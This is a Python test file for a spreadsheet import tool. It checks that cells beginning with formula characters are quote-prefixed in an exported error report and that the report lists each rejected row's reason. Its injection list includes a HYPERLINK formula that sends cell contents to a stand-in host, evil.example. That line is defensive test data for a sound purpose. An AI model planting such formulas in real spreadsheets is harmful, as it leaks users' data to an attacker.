"""The error report: every reason, the original cells, and no cell that could start a formula."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from linghuo.spreadsheets import ROSTER, error_report_bytes, formula_safe, parse_file, write_error_report
from tests.spreadsheets.files import ROSTER_HEADERS, roster_row, write_xlsx

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1",
    "\n=1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_it_prefixes_formula_starters_with_a_quote(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "3,000", "'=already", 42, -2, 3.5, None])
def test_it_leaves_harmless_values_alone(value: object) -> None:
    assert formula_safe(value) == value


def test_it_round_trips_formula_cells_through_the_report_as_plain_text(tmp_path: Path) -> None:
    rows = [ROSTER_HEADERS] + [roster_row(姓名=text, 手机号=text) for text in INJECTIONS]
    upload = tmp_path / "名册.xlsx"
    workbook = write_xlsx(upload, [ROSTER_HEADERS])
    book = load_workbook(workbook)
    sheet = book.active
    assert sheet is not None
    for row in rows[1:]:
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"  # stored as text in the upload, as a spreadsheet user could
    book.save(upload)

    result = parse_file(upload, ROSTER)
    assert len(result.rejected) == len(INJECTIONS)
    report = tmp_path / "错误报告.xlsx"
    write_error_report(result.rejected, headers=result.headers, target=report)

    exported = load_workbook(report).worksheets[0]
    cells = [cell for row in exported.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in cells)
    values = {cell.value for cell in cells}
    for text in INJECTIONS[:4]:
        assert "'" + text in values
    as_read = {cell for row in result.rejected for cell in row.cells if isinstance(cell, str)}
    assert {"'" + text for text in as_read if text[0] in "=+-@\t\r\n"} <= values


def test_it_lists_each_reason_with_row_column_value_and_original_cells(tmp_path: Path) -> None:
    bad = roster_row(手机号="123", 工作地区划代码="320102")
    path = write_xlsx(tmp_path / "名册.xlsx", [["标题"], ROSTER_HEADERS, roster_row(), bad])
    result = parse_file(path, ROSTER)
    sheet = load_workbook(io.BytesIO(error_report_bytes(result.rejected, headers=result.headers))).worksheets[
        0
    ]
    table = [[c.value for c in row] for row in sheet.iter_rows()]
    assert table[0][:4] == ["行号", "列", "填写的内容", "原因"]
    assert table[0][4:] == [f"原表：{h}" for h in ROSTER_HEADERS]
    assert sheet.cell(row=1, column=1).font.bold
    assert [row[:3] for row in table[1:]] == [[4, "手机号", "123"], [4, "工作地区划代码", "320102"]]
    assert table[1][4:] == [None if v == "" else v for v in bad]
